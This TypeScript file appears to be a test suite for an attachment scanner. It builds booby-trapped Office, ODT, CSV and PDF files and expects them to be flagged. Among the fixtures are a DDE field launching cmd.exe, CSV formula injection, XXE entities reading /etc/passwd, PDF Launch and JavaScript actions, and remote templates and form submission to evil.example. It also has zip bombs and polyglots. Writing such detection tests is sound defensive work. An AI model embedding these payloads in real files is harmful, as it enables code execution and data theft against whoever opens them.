import { deflateSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { contentTypes, paragraph, wordFile, type WordFile } from "../../word-file.ts";
import type { Erwartung, Fall } from "../fall.ts";

const files = (parts: Readonly<Record<string, string | Uint8Array>>): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, content]) => [name, typeof content === "string" ? strToU8(content) : content]),
    ),
  );
const odt = (parts: Readonly<Record<string, string>> = {}): Uint8Array =>
  files({ mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>", ...parts });
const xlsx = (parts: Readonly<Record<string, string>> = {}): Uint8Array =>
  files({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", ...parts });
const docx = (file: Partial<WordFile> = {}): Uint8Array => wordFile({ body: paragraph("Text"), ...file });
const relation = (type: string, target: string, external = true): string =>
  `<Relationships xmlns="x"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/></Relationships>`;
const pdf = (objects: string): Uint8Array => Buffer.from(`%PDF-1.7\n${objects}\n%%EOF\n`, "latin1");
const packed = (text: string): string =>
  `1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n${deflateSync(text).toString("latin1")}\nendstream endobj`;
/** An archive whose directory claims less than it holds. */
const lying = (archive: Uint8Array): Uint8Array => {
  const bytes = Buffer.from(archive);
  const at = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
  bytes.writeUInt32LE(10, at + 24);
  return bytes;
};

const active: Readonly<Record<string, readonly [name: string, content: Uint8Array | string]>> = {
  "Word with macros under another name": ["brief.docx", docx({ parts: { "word/vbaProject.bin": "x" } })],
  "Word that says it has macros": [
    "brief.docx",
    docx({ parts: { "[Content_Types].xml": contentTypes("ms-word.document.macroEnabled.main+xml") } }),
  ],
  "Word with a template elsewhere": [
    "brief.docx",
    docx({ parts: { "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/x.dotm") } }),
  ],
  "Word with a template on a share": [
    "brief.docx",
    docx({
      parts: { "word/_rels/settings.xml.rels": relation("attachedTemplate", "file://evil.example/share/x.dotm") },
    }),
  ],
  "Word with a picture elsewhere": ["brief.docx", docx({ targets: { r: "https://evil.example/media.png" } })],
  "Word with a frame elsewhere": [
    "brief.docx",
    docx({ parts: { "word/_rels/webSettings.xml.rels": relation("frame", "https://evil.example/") } }),
  ],
  "Word with HTML inside": [
    "brief.docx",
    docx({ parts: { "word/_rels/document.xml.rels": relation("aFChunk", "afchunk.mht", false) } }),
  ],
  "Word with an OLE object": ["brief.docx", docx({ parts: { "word/embeddings/oleObject1.bin": "x" } })],
  "Word with a linked OLE object": [
    "brief.docx",
    docx({ parts: { "word/_rels/document.xml.rels": relation("oleObject", "x", false) } }),
  ],
  "Word with ActiveX": ["brief.docx", docx({ parts: { "word/activeX/activeX1.xml": "<x/>" } })],
  "Word with DDE": [
    "brief.docx",
    docx({
      body: '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
    }),
  ],
  "Word with a program": ["brief.docx", docx({ parts: { "word/media/rechnung.exe": "MZ" } })],
  "Word with entities": [
    "brief.docx",
    docx({ parts: { "word/settings.xml": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>' } }),
  ],
  "Word with relations in UTF-16": [
    "brief.docx",
    docx({
      parts: {
        "word/_rels/settings.xml.rels": new Uint8Array(
          Buffer.from(`\ufeff${relation("attachedTemplate", "https://evil.example/")}`, "utf16le"),
        ),
      },
    }),
  ],
  "Excel with macros under another name": ["zahlen.xlsx", xlsx({ "xl/vbaProject.bin": "x" })],
  "Excel with macros of version 4": ["zahlen.xlsx", xlsx({ "xl/macrosheets/sheet1.xml": "x" })],
  "Excel that is linked": ["zahlen.xlsx", xlsx({ "xl/externalLinks/externalLink1.xml": "<ddeLink/>" })],
  "PowerPoint with a sound elsewhere": [
    "folien.pptx",
    files({
      "ppt/presentation.xml": "<p/>",
      "ppt/_rels/presentation.xml.rels": relation("audio", "https://evil.example/x.wav"),
    }),
  ],
  "ODT with Basic": ["brief.odt", odt({ "Basic/Standard/Module1.xml": "<x/>" })],
  "ODT with Python": ["brief.odt", odt({ "Scripts/python/x.py": "import os" })],
  "ODT with an event": [
    "brief.odt",
    odt({
      "content.xml":
        '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/></office:event-listeners>',
    }),
  ],
  "ODT with a picture elsewhere": [
    "brief.odt",
    odt({ "content.xml": '<draw:image xlink:href="https://evil.example/x.png"/>' }),
  ],
  "ODT with a section of another file": [
    "brief.odt",
    odt({ "content.xml": '<text:section-source xlink:href="file:///etc/passwd"/>' }),
  ],
  "ODT with an OLE object": ["brief.odt", odt({ "Object 1": "x" })],
  "CSV with a formula": ["zahlen.csv", 'Amt;Zahl\n"=HYPERLINK(""https://evil.example/"")";3\n'],
  "CSV with a command": ["zahlen.csv", "Amt;Zahl\nHaarbach;@SUM(1+1)*cmd|' /C calc'!A0\n"],
  "CSV with a plus": ["zahlen.csv", "a;+cmd|' /C calc'!A0\r\n"],
  "PDF that starts a program": ["plan.pdf", pdf("1 0 obj <</S/Launch/F(cmd.exe)>> endobj")],
  "PDF that starts a program, written otherwise": ["plan.pdf", pdf("1 0 obj <</S/#4c#61unch/F(cmd.exe)>> endobj")],
  "PDF that starts a program, compressed": ["plan.pdf", pdf(packed("1 0 <</S/Launch>>"))],
  "PDF with media": ["plan.pdf", pdf("1 0 obj <</Subtype/RichMedia>> endobj")],
  "PDF with a script": ["plan.pdf", pdf("1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj")],
  "PDF with a script, compressed": ["plan.pdf", pdf(packed("1 0 <</S/J#61vaScript/J#53(1)>>"))],
  "PDF with a file": ["plan.pdf", pdf("1 0 obj <</Type/EmbeddedFile>> endobj")],
  "PDF that sends": ["plan.pdf", pdf("1 0 obj <</S/SubmitForm/F(https://evil.example)>> endobj")],
};

const broken: Readonly<Record<string, readonly [name: string, content: Uint8Array | string, rule: string]>> = {
  "a bomb in Word's clothes": [
    "brief.docx",
    files({ "word/document.xml": new Uint8Array(20_000_000) }),
    "dokument-kaputt",
  ],
  "a bomb in ODT's clothes": ["brief.odt", odt({ "content.xml": " ".repeat(20_000_000) }), "dokument-kaputt"],
  "a bomb that lies about its size": [
    "brief.odt",
    lying(files({ "content.xml": "x".repeat(9_000) })),
    "dokument-kaputt",
  ],
  "an archive of 3,000 parts": [
    "brief.docx",
    files(Object.fromEntries(Array.from({ length: 3_000 }, (_, i) => [`word/${i}.xml`, "x"]))),
    "dokument-kaputt",
  ],
  "an archive that is cut off": ["brief.docx", docx().subarray(0, 900), "dokument-kaputt"],
  "any archive as Word": ["brief.docx", files({ "alles/hier.txt": "x" }), "dateiinhalt"],
  "Word as Excel": ["zahlen.xlsx", docx(), "dateiinhalt"],
  "an app of Java as Word": ["brief.docx", files({ "META-INF/MANIFEST.MF": "x", "A.class": "x" }), "dateiinhalt"],
  "HTML as CSV": ["zahlen.csv", "<html><script>KANARIE()</script>", "dateiinhalt"],
  "HTML as text": ["notiz.txt", "<!doctype html><script>KANARIE()</script>", "dateiinhalt"],
  "a shell script as text": ["notiz.txt", "#!/bin/sh\nid\n", "dateiinhalt"],
  "a program as PDF": ["plan.pdf", "MZ\x90\x00", "dateiinhalt"],
  "PDF as a picture": ["bild.png", "%PDF-1.7", "dateiinhalt"],
  "HTML before the PDF": ["plan.pdf", "<script>KANARIE()</script>\n%PDF-1.7\n", "dateiinhalt"],
  "an archive as a picture": ["bild.jpg", docx(), "dateiinhalt"],
  "SVG as a picture": ["bild.png", "<svg xmlns='http://www.w3.org/2000/svg' onload='KANARIE()'/>", "dateiinhalt"],
  "GIF and script as a picture": ["bild.png", "GIF89a/*\x01\x00*/=1;KANARIE()", "dateiinhalt"],
  "text in UTF-16": ["notiz.txt", new Uint8Array(Buffer.from("\ufeffGeheim", "utf16le")), "dateiinhalt"],
  "text with NUL": ["notiz.txt", "a\0b", "dateiinhalt"],
  "a BPMN file with entities": [
    "ablauf.bpmn",
    '<!DOCTYPE x [<!ENTITY a "b">]><definitions>&a;</definitions>',
    "dateiinhalt",
  ],
};

/** What passes, and is inert because of how it is served: as the kind its name says, and never sniffed. */
const polyglots: Readonly<Record<string, readonly [name: string, content: Uint8Array | string]>> = {
  "PDF and HTML": ["plan.pdf", pdf("<script>KANARIE()</script><img src=x onerror=KANARIE()>")],
  "PDF and archive": ["plan.pdf", Buffer.concat([pdf(""), docx()])],
  "Word, plain": ["brief.docx", docx({ targets: { r: "https://haarbach.example/" } })],
  "ODT, plain": ["brief.odt", odt()],
  "CSV with signs and telephone numbers": ["zahlen.csv", "Amt;Zahl\nHaarbach;-5,3\nCarbäk;+49 30 1234\n"],
  "text with markup further on": ["notiz.txt", "Text\n<script>KANARIE()</script>\n"],
};

const beside = (rule: string, name: string): readonly Erwartung[] => [[rule, undefined, `themen/$/${name}`]];

/** Files that editors attach, which the hub hands on as they are. */
const faelle: readonly Fall[] = [
  ...Object.entries(active).map(([name, [file, content]]): Fall => ({
    name,
    write: (hub) => hub.attachment(file, content),
    problems: beside("dokument-aktiv", file),
  })),
  ...Object.entries(broken).map(([name, [file, content, rule]]): Fall => ({
    name,
    write: (hub) => hub.attachment(file, content),
    problems: beside(rule, file),
  })),
  ...Object.entries(polyglots).map(([name, [file, content]]): Fall => ({
    name,
    write: (hub) => hub.attachment(file, content),
  })),
];
export default faelle;
